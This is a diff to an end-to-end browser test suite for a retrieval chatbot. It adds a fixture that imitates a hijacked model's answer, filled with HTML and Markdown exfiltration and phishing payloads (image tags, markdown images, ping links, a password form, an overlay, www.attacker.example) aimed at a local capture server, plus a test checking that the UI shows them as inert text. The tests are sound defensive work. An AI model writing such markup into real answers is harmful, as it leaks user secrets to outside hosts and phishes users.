@@ -35,6 +35,7 @@ from guardrails.knn import KnnClassifier, load_examples
 from retrieval.embedder import MultiHeadEmbedder
 from retrieval.retriever import RetrievalSettings, Retriever
 from retrieval.store import VectorStore
+from tests.capture_server import CaptureServer
 from tests.conftest import TOPICS, make_ingestor
 from tests.generators import ScriptedGenerator
 from tests.pdf_maker import write_pdf
@@ -71,9 +72,23 @@ class PromptOnlyKnn:
 class Site:
     real: str  # base URLs
     scripted: str
+    hostile: str  # answers with HTML and Markdown that would call the capture server
+    capture: CaptureServer
     data_dir: Path
     library: Library
     conversations: ConversationStore
+
+
+def hostile_answer(capture: str) -> str:
+    """What a hijacked model might write: each piece would make the browser call `capture`."""
+    return (
+        f'Green tea wants 80 °C [1]. <img src="{capture}/leak-img?q=secret"> '
+        f"![chart]({capture}/leak-md?q=secret) [Sign in]({capture}/phish) <{capture}/autolink> "
+        f'<a ping="{capture}/leak-ping" href="#">more</a> '
+        f'<form action="{capture}/leak-form"><input type="password" name="pw"></form> '
+        f'<div style="position:fixed;inset:0;background:red" id="overlay">x</div> '
+        f"Visit {capture}/bare or www.attacker.example."
+    )
 
 
 def _serve(deps: AppDeps) -> tuple[str, Callable[[], None]]:
@@ -120,11 +135,18 @@ def site(
         max_answer_tokens=48,
     )
     scripted = ChatService(retriever, ScriptedGenerator([SCRIPTED] * 50), RetrievalSettings(k=2))
+    capture = CaptureServer().__enter__()
+    hostile = ChatService(
+        retriever, ScriptedGenerator([hostile_answer(capture.url)] * 10), RetrievalSettings(k=2)
+    )
     real_url, stop_real = _serve(AppDeps(settings, real, conversations, lambda: {}, library))
     scripted_url, stop_scripted = _serve(AppDeps(settings, scripted, conversations, lambda: {}, library))
-    yield Site(real_url, scripted_url, settings.data_dir, library, conversations)
+    hostile_url, stop_hostile = _serve(AppDeps(settings, hostile, conversations, lambda: {}, library))
+    yield Site(real_url, scripted_url, hostile_url, capture, settings.data_dir, library, conversations)
     stop_real()
     stop_scripted()
+    stop_hostile()
+    capture.__exit__(None, None, None)
     conversations.close()
     store.close()
 
@@ -259,6 +281,25 @@ def test_chat_streams_a_real_answer_and_shows_its_sources(site: Site, driver: An
     assert all(len(a) <= len(b) for a, b in pairwise(states))
 
 
+def test_an_answer_carrying_html_and_links_reaches_nobody(site: Site, driver: Any) -> None:
+    """Model output is text: no element it names is built, nothing it points at is fetched."""
+    open_page(driver, site.hostile)
+    ask(driver, "How hot should the water be for green tea?")
+    wait_answered(driver, 1)
+    time.sleep(1.0)  # time for any image, ping or prefetch to go out
+    shot(driver, "hostile-answer.png")
+    bubble = css(driver, "#rb-chat [data-testid='bot']")[-1]
+    assert "Green tea wants 80 °C" in bubble.text
+    assert '<img src="' in bubble.text  # shown as the text it is
+    from selenium.webdriver.common.by import By
+
+    assert bubble.find_elements(By.CSS_SELECTOR, "img, form, input, [ping], [style*='fixed']") == []
+    links = [a.get_attribute("href") or "" for a in bubble.find_elements(By.CSS_SELECTOR, "a")]
+    assert all("#cite-" in href for href in links)  # only the citation is a link
+    assert css(driver, "#overlay") == []
+    assert site.capture.requests == []  # nothing left the browser
+
+
 def test_clicking_a_citation_shows_the_passage_with_the_supporting_sentence(site: Site, driver: Any) -> None:
     open_page(driver, site.scripted)
     ask(driver, "What do cats do at night?")
@@ -293,8 +334,17 @@ def test_upload_lists_the_file_answers_from_it_and_delete_takes_it_away(
     )
     open_page(driver, site.scripted)
     tab(driver, "Documents")
-    denied = upload(driver, tides, expect="#rb-upload-result-box .rb-error")
-    assert "operator token is missing or wrong" in denied
+    # Without the token the upload route itself refuses the file (bot/app.py UploadGate): Gradio
+    # reports the refusal, and nothing reaches the uploads folder or Gradio's cache.
+    field = wait_for(driver, lambda d: css(d, "#rb-upload input[type='file']"))
+    field[0].send_keys(str(tides))
+    toast = wait_for(driver, lambda d: [t for t in css(d, "[data-testid='toast-body']") if t.text])
+    shot(driver, "upload-denied.png")
+    assert "operator token is missing or wrong" in toast[0].text
+    assert not (site.data_dir / "uploads" / "tide-pools.md").exists()
+    driver.refresh()
+    wait_for(driver, lambda d: css(d, "#rb-input textarea"))
+    tab(driver, "Documents")
     css(driver, "#rb-token input")[0].send_keys(TOKEN)
     result = upload(driver, tides, empty, pdf, page)
     shot(driver, "upload.png")
